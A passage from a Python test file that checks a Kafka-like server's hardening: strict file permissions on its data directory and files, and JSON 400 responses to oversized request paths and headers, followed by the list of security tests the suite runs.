        assert any("[0,...,19]" in e for e in errors.get("filename.offset.zero.pad.width", [])), errors

        mode = os.stat(data).st_mode & 0o777
        assert mode == 0o700, oct(mode)
        for name in ("metadata.db", "connect.db", "meta.properties"):
            file_mode = os.stat(os.path.join(data, name)).st_mode & 0o777
            assert file_mode == 0o600, (name, oct(file_mode))
        segment = os.path.join(data, "logs", "hidden-0", "00000000000000000000.log")
        assert os.stat(segment).st_mode & 0o777 == 0o600, oct(os.stat(segment).st_mode)

        for path, headers in (("/v3/clusters?" + "a" * 200_000, {}), ("/v3/clusters", {"X-Big": "b" * 200_000})):
            status, fields, payload = raw_request(server.url, "GET", path, {"Host": "localhost", **headers})
            assert status == 400 and fields.get("content-type") == "application/json", (status, fields, payload[:200])
            assert json.loads(payload)["error_code"] == 400, payload


SHARED = []
OWN_SERVER = [test_auth_modes, test_route_walk, test_acls, test_api_keys, test_connector_principal, test_tls, test_metrics_auth, test_dashboard_data, test_audit_lines, test_browser_forgery, test_credential_bytes, test_failed_logins, test_connector_acls, test_file_roots, test_low_findings]

if __name__ == "__main__":
    run_suite(SHARED, OWN_SERVER)
